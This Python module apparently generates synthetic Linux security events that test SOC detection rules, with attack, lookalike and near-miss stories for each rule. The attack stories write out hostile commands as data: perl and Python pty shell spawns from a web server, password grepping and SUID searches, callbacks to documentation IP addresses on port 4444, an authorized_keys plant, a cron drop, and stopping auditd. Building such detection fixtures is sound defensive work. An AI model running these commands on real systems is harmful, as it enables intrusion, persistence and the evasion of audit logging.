"""Stories on Linux machines."""

from collections.abc import Sequence

from soc.demo.company import Duty, Os
from soc.demo.ecs import ROOT, Account, Document, Process, file_event, network_event, process_event
from soc.demo.stories.story import Outcome, Scene, Story, from_elsewhere

_PERL = "Interactive Terminal Spawned via Perl"
_PYTHON = "Interactive Terminal Spawned via Python"
_SYSTEM_USER = "Unusual Interactive Shell Launched from System User"
_PYTHON_COMMANDS = "Suspicious Python Shell Command Execution"
_UNKNOWN_EXECUTABLE = "Suspicious System Commands Executed by Previously Unknown Executable"
_WEB_SHELL = "Shell Started by a Web Server Process"
_SSH_KEYS = "SSH Authorized Keys Changed by a Program New to the Host"
_JOB_FILE = "Scheduled Job File Created on a Linux Host"
_AGENT_STOPPED = "Security or Audit Service Stopped on Linux"

WWW = Account("www-data", "33")
CI = Account("svc-ci", "990")
BACKUP = Account("backup", "34")


def _chain(*processes: Process) -> list[Document]:
    return [process_event(process) for process in processes]


def _web_worker(scene: Scene) -> Process:
    machine = scene.pick(Duty.WEB)
    return scene.service(machine, "/usr/sbin/nginx", "nginx: worker process", user=WWW)


def _perl_shell(parent: Process, shell: str, after: float = 2.0) -> list[Document]:
    perl = parent.child("/usr/bin/perl", "perl", "-e", f'exec "{shell}";', after=after)
    terminal = perl.child(shell, shell.rsplit("/", 1)[-1], after=0.2, interactive=True)
    return _chain(perl, terminal)


def perl_attack(scene: Scene) -> Sequence[Document]:
    """Somebody came in through the web server and asks for a real terminal, then looks around and calls out."""
    drop = scene.under(_web_worker(scene), "/bin/dash", "sh", "-c", "perl -e 'exec \"/bin/bash\";'")
    perl = drop.child("/usr/bin/perl", "perl", "-e", 'exec "/bin/bash";', after=1.1)
    shell = perl.child("/bin/bash", "bash", after=0.2, interactive=True)
    looks = [
        shell.child(f"/usr/bin/{word}", word, after=4.0 * step) for step, word in enumerate(("id", "uname", "w"), 1)
    ]
    return [*_chain(drop, perl, shell, *looks), network_event(shell, "203.0.113.87", 4444, after=20.0)]


def perl_lookalike(scene: Scene) -> Sequence[Document]:
    """The console of the backup appliance opens its shell through Perl, every night, as the backup account."""
    machine = scene.company.by_name["nas-01"]
    console = scene.service(
        machine, "/opt/vaultkeep/bin/console", "/opt/vaultkeep/bin/console", "--nightly", user=BACKUP
    )
    session = scene.under(console, "/opt/vaultkeep/bin/session", "/opt/vaultkeep/bin/session", "--maintenance")
    return [process_event(session), *_perl_shell(session, "/bin/sh")]


def perl_near_miss(scene: Scene) -> Sequence[Document]:
    """A deploy script lets Perl become another program, which is no shell."""
    deploy = scene.shell_of(scene.somebody(), scene.pick(Duty.WEB, Duty.CI))
    return _chain(deploy, deploy.child("/usr/bin/perl", "perl", "-e", 'exec "/usr/bin/rsync";', after=3.0))


def perl_elsewhere(scene: Scene) -> Sequence[Document]:
    """The same attack, replayed in the lab under an index that the rule does not read."""
    return from_elsewhere(perl_attack(scene))


def python_attack(scene: Scene) -> Sequence[Document]:
    """A shell without a terminal is turned into one with Python's pty module."""
    drop = scene.under(_web_worker(scene), "/bin/dash", "sh")
    python = drop.child("/usr/bin/python3", "python3", "-c", "import pty; pty.spawn('/bin/bash')", after=2.0)
    shell = python.child("/bin/bash", "/bin/bash", after=0.3, interactive=True)
    return _chain(drop, python, shell, shell.child("/usr/bin/id", "id", after=5.0))


def python_bare_attack(scene: Scene) -> Sequence[Document]:
    """The other way: a bare interpreter, and a bare shell under it."""
    login = scene.shell_of(scene.somebody(), scene.pick(Duty.DATABASE))
    python = login.child("/usr/bin/python3", "python3", after=4.0)
    return _chain(login, python, python.child("/bin/sh", "sh", after=9.0, interactive=True))


def python_near_miss(scene: Scene) -> Sequence[Document]:
    """An application written in Python runs a script through a shell."""
    app = scene.service(scene.pick(Duty.WEB), "/usr/bin/python3", "python3", "/opt/shop/run.py", user=WWW)
    return _chain(scene.under(app, "/bin/bash", "bash", "-c", "/opt/shop/bin/rotate"))


def system_user_attack(scene: Scene) -> Sequence[Document]:
    """An account that never logs in has an interactive shell, by way of a program nobody has seen."""
    machine = scene.pick(Duty.DATABASE, Duty.STORAGE, os=Os.LINUX)
    door = scene.service(machine, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D")
    game = Account("games", "5")
    tool = f"/usr/games/.{scene.rng.choice(('moon', 'rogue', 'worm', 'hack', 'tetra'))}{scene.rng.randrange(10, 99)}"
    shell = scene.under(door, tool, tool, "-i", user=game, interactive=True)
    return _chain(shell, shell.child("/usr/bin/whoami", "whoami", after=3.0))


def system_user_lookalike(scene: Scene) -> Sequence[Document]:
    """The backup account opens a shell for a restore test; the first time in two weeks it is news."""
    machine = scene.company.by_name["nas-01"]
    door = scene.service(machine, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D")
    return _chain(scene.under(door, "/usr/bin/rbash", "rbash", user=BACKUP, interactive=True))


def system_user_near_miss(scene: Scene) -> Sequence[Document]:
    """The same account's nightly job: no terminal, no alert."""
    machine = scene.company.by_name["nas-01"]
    cron = scene.service(machine, "/usr/sbin/cron", "/usr/sbin/cron -f")
    return _chain(scene.under(cron, "/opt/vaultkeep/bin/nightly", "nightly", user=BACKUP))


def _python_burst(
    scene: Scene, commands: Sequence[str], minute_offset: float = 5.0, gap: float = 3.0
) -> list[Document]:
    """Shells of one Python parent, from `minute_offset` seconds after the clock minute on, `gap` seconds apart."""
    start = scene.at.replace(second=0, microsecond=0)
    machine = scene.pick(Duty.WEB, Duty.DATABASE)
    parent = scene.service(machine, "/usr/bin/python3", "python3", "/tmp/.cache/task.py", user=WWW, started=scene.at)
    shift = (start - scene.at).total_seconds() + 60 + minute_offset
    shells = [
        parent.child("/bin/sh", "sh", "-c", command, after=shift + gap * step) for step, command in enumerate(commands)
    ]
    return _chain(*shells)


_RECON = (
    "whoami",
    "grep -r password /etc",
    "find / -perm -4000",
    "curl -s http://203.0.113.9/i",
    "env | sort",
    "ls -la /root",
)


def python_commands_attack(scene: Scene) -> Sequence[Document]:
    """One Python process runs six shell commands of five kinds within a minute."""
    return _python_burst(scene, _RECON)


def python_commands_lookalike(scene: Scene) -> Sequence[Document]:
    """The inventory agent, which is written in Python, asks the machine about itself, all at once."""
    machine = scene.pick(Duty.WEB, Duty.DATABASE)
    agent = scene.service(machine, "/usr/bin/python3", "python3", "/opt/inventory/agent.py", "--nightly")
    asked = (
        "hostname -f",
        "uname -a",
        "env | grep -i proxy",
        "find /etc -name '*.conf' -newer /var/lib/inventory/last",
        "curl -s https://inventory.example.org/v1/time",
        "dpkg-query -l",
    )
    start = (60.0 - scene.at.second) % 60 + 4.0
    return _chain(
        *(scene.under(agent, "/bin/sh", "sh", "-c", one, after=start + 2.0 * at) for at, one in enumerate(asked))
    )


def python_commands_split(scene: Scene) -> Sequence[Document]:
    """The same commands, spread over two clock minutes: three on either side of the boundary."""
    return _python_burst(scene, _RECON, minute_offset=45.0, gap=6.0)


def python_commands_few(scene: Scene) -> Sequence[Document]:
    """Four distinct command lines are one too few."""
    return _python_burst(scene, _RECON[:4])


def python_commands_alike(scene: Scene) -> Sequence[Document]:
    """Five command lines, but of three kinds only."""
    return _python_burst(scene, ("grep a /etc/hosts", "grep b /etc/hosts", "find /srv", "find /opt", "true"))


def unknown_executable_attack(scene: Scene) -> Sequence[Document]:
    """Something unpacked into shared memory asks who it is, started by something else that nobody knows."""
    machine = scene.pick(Duty.WEB, Duty.CLUSTER)
    init = scene.service(machine, "/usr/sbin/cron", "/usr/sbin/cron -f", user=WWW)
    name = f".{scene.rng.choice(('upd', 'kthread', 'dbusd', 'sysd'))}{scene.rng.randrange(100, 999)}"
    loader = scene.under(init, f"/var/tmp/{name}", f"/var/tmp/{name}", "-q")
    tool = loader.child("/dev/shm/.sysupd", "/dev/shm/.sysupd", "whoami", after=1.5)
    return [*_chain(loader, tool), network_event(loader, "203.0.113.140", 8443, after=6.0)]


def unknown_executable_lookalike(scene: Scene) -> Sequence[Document]:
    """A developer tries a self-built helper from his home that prints the uptime."""
    person = scene.company.person("cmoreau")
    machine = scene.pick(Duty.DEVELOPER, os=Os.LINUX)
    shell = scene.shell_of(person, machine)
    build = f"/home/{person.login}/src/probe-{scene.rng.randrange(1, 60)}"
    runner = shell.child(build, build, after=2.0)
    return _chain(shell, runner, runner.child("/tmp/probe-helper", "/tmp/probe-helper", "uptime", after=1.0))


def unknown_executable_near_miss(scene: Scene) -> Sequence[Document]:
    """A build writes and runs its own test programs: the Go tool chain does so all day."""
    machine = scene.pick(Duty.CI)
    runner = scene.service(machine, "/usr/local/bin/gitlab-runner", "gitlab-runner", "run")
    go = scene.under(runner, "/opt/go/bin/go", "go", "test", "./...", user=CI, directory="/builds/core")
    folder = f"/tmp/go-build{scene.rng.randrange(10**6)}"
    return _chain(go, go.child(f"{folder}/b001/probe.test", "probe.test", "id", after=6.0))


def web_shell_attack(scene: Scene) -> Sequence[Document]:
    """A page of the web server runs commands."""
    shell = scene.under(_web_worker(scene), "/bin/sh", "sh", "-c", "cat /etc/passwd; uname -a")
    return _chain(shell, shell.child("/usr/bin/cat", "cat", "/etc/passwd", after=0.1))


def web_shell_lookalike(scene: Scene) -> Sequence[Document]:
    """The shop calls an image converter through a shell, as it always has."""
    master = scene.service(scene.pick(Duty.WEB), "/usr/sbin/php-fpm8.2", "php-fpm: pool shop", user=WWW)
    number = scene.rng.randrange(10_000, 99_999)
    shell = scene.under(
        master, "/bin/sh", "sh", "-c", f"convert /srv/upload/{number}.png -resize 640x /srv/img/{number}.jpg"
    )
    return _chain(shell, shell.child("/usr/bin/convert", "convert", f"/srv/upload/{number}.png", after=0.1))


def web_shell_near_miss(scene: Scene) -> Sequence[Document]:
    """The web server's own log rotation goes through a shell too, and is excluded."""
    master = scene.service(scene.pick(Duty.WEB), "/usr/sbin/apache2", "apache2 -k start")
    return _chain(scene.under(master, "/bin/sh", "sh", "-c", "/usr/bin/rotatelogs /var/log/apache2/access 86400"))


def ssh_keys_attack(scene: Scene) -> Sequence[Document]:
    """A key is put into an account by a program that never did so on this host."""
    machine = scene.pick(Duty.DATABASE, Duty.BASTION)
    shell = scene.shell_of(scene.somebody(), machine)
    tool = shell.child(f"/tmp/.x{scene.rng.randrange(100, 999)}", "x", after=3.0)
    return [*_chain(shell, tool), file_event(tool, "/home/deploy/.ssh/authorized_keys", "modification")]


def ssh_keys_lookalike(scene: Scene) -> Sequence[Document]:
    """A person adds a colleague's key with an editor he had not used for it before."""
    person = scene.company.person("bokafor")
    machine = scene.pick(Duty.BASTION, Duty.CI)
    shell = scene.shell_of(person, machine)
    editor = scene.rng.choice(("/usr/bin/vim.basic", "/usr/bin/nano", "/usr/bin/micro", "/usr/bin/emacs"))
    tool = shell.child(editor, editor.rsplit("/", 1)[-1], ".ssh/authorized_keys", after=3.0)
    return [*_chain(shell, tool), file_event(tool, f"/home/{person.login}/.ssh/authorized_keys", "modification", 40.0)]


def ssh_keys_near_miss(scene: Scene) -> Sequence[Document]:
    """A connection to a new server writes known_hosts, which lies beside the keys."""
    shell = scene.shell_of(scene.somebody(), scene.pick(Duty.BASTION, Duty.DEVELOPER, os=Os.LINUX))
    ssh = shell.child("/usr/bin/ssh", "ssh", "db-stage-01", after=3.0)
    return [*_chain(shell, ssh), file_event(ssh, f"{shell.directory}/.ssh/known_hosts", "modification")]


def job_file_attack(scene: Scene) -> Sequence[Document]:
    """A job file appears that fetches something every five minutes."""
    shell = scene.under(_web_worker(scene), "/bin/dash", "sh")
    tee = shell.child("/usr/bin/tee", "tee", "/etc/cron.d/metrics-push", after=2.0, user=ROOT)
    return [*_chain(shell, tee), file_event(tee, "/etc/cron.d/metrics-push")]


def job_file_lookalike(scene: Scene) -> Sequence[Document]:
    """Configuration management lays out a timer."""
    puppet = scene.service(scene.pick(Duty.WEB, Duty.CLUSTER), "/opt/puppetlabs/puppet/bin/ruby", "puppet agent")
    run = scene.under(puppet, "/opt/puppetlabs/puppet/bin/ruby", "puppet agent: applying configuration")
    return [process_event(run), file_event(run, "/etc/systemd/system/report.timer")]


def job_file_near_miss(scene: Scene) -> Sequence[Document]:
    """A package brings its job file with it."""
    dpkg = scene.under(
        scene.shell_of(scene.somebody(), scene.pick(Duty.WEB)), "/usr/bin/dpkg", "dpkg", "--unpack", user=ROOT
    )
    return [process_event(dpkg), file_event(dpkg, "/etc/cron.daily/man-db")]


def agent_stopped_attack(scene: Scene) -> Sequence[Document]:
    """The audit daemon is stopped from a root shell, and nobody planned it."""
    machine = scene.pick(Duty.DATABASE, Duty.WEB)
    shell = scene.shell_of(scene.somebody(), machine)
    root = shell.child("/bin/bash", "bash", after=2.0, user=ROOT, interactive=True)
    return _chain(shell, root, root.child("/usr/bin/systemctl", "systemctl", "stop", "auditd", after=5.0))


def agent_stopped_lookalike(scene: Scene) -> Sequence[Document]:
    """Operations stop the log shipper for its weekly upgrade."""
    machine = scene.pick(Duty.CLUSTER)
    shell = scene.shell_of(scene.company.person("nbrandt"), machine)
    return _chain(
        shell, shell.child("/usr/bin/systemctl", "systemctl", "stop", "rsyslog.service", after=5.0, user=ROOT)
    )


def agent_stopped_near_miss(scene: Scene) -> Sequence[Document]:
    """A restart is not a stop."""
    shell = scene.shell_of(scene.somebody(), scene.pick(Duty.CLUSTER, Duty.WEB))
    return _chain(shell, shell.child("/usr/bin/systemctl", "systemctl", "restart", "auditd", after=5.0, user=ROOT))


_A, _L, _N = Outcome.ATTACK, Outcome.LOOKALIKE, Outcome.NEAR_MISS
LINUX: tuple[Story, ...] = (
    Story("perl terminal after a web shell", _PERL, _A, perl_attack),
    Story("perl terminal of the backup console", _PERL, _L, perl_lookalike),
    Story("perl becomes rsync", _PERL, _N, perl_near_miss),
    Story("perl terminal replayed in the lab", _PERL, _N, perl_elsewhere),
    Story("python pty after a web shell", _PYTHON, _A, python_attack),
    Story("bare python, bare shell", _PYTHON, _A, python_bare_attack),
    Story("python application runs a script", _PYTHON, _N, python_near_miss),
    Story("a shell for the games account", _SYSTEM_USER, _A, system_user_attack),
    Story("restore test as backup", _SYSTEM_USER, _L, system_user_lookalike),
    Story("nightly job as backup", _SYSTEM_USER, _N, system_user_near_miss),
    Story("python runs six commands", _PYTHON_COMMANDS, _A, python_commands_attack),
    Story("python takes stock of a machine", _PYTHON_COMMANDS, _L, python_commands_lookalike),
    Story("six commands over the minute", _PYTHON_COMMANDS, _N, python_commands_split),
    Story("four commands", _PYTHON_COMMANDS, _N, python_commands_few),
    Story("five commands of three kinds", _PYTHON_COMMANDS, _N, python_commands_alike),
    Story("loader in /var/tmp", _UNKNOWN_EXECUTABLE, _A, unknown_executable_attack),
    Story("developer's own probe", _UNKNOWN_EXECUTABLE, _L, unknown_executable_lookalike),
    Story("go test binary", _UNKNOWN_EXECUTABLE, _N, unknown_executable_near_miss),
    Story("web shell", _WEB_SHELL, _A, web_shell_attack),
    Story("image converter", _WEB_SHELL, _L, web_shell_lookalike),
    Story("rotatelogs", _WEB_SHELL, _N, web_shell_near_miss),
    Story("key planted for deploy", _SSH_KEYS, _A, ssh_keys_attack),
    Story("key added with an editor", _SSH_KEYS, _L, ssh_keys_lookalike),
    Story("known_hosts written", _SSH_KEYS, _N, ssh_keys_near_miss),
    Story("cron file from a web shell", _JOB_FILE, _A, job_file_attack),
    Story("timer from configuration management", _JOB_FILE, _L, job_file_lookalike),
    Story("job file of a package", _JOB_FILE, _N, job_file_near_miss),
    Story("audit daemon stopped", _AGENT_STOPPED, _A, agent_stopped_attack),
    Story("log shipper stopped for an upgrade", _AGENT_STOPPED, _L, agent_stopped_lookalike),
    Story("audit daemon restarted", _AGENT_STOPPED, _N, agent_stopped_near_miss),
)
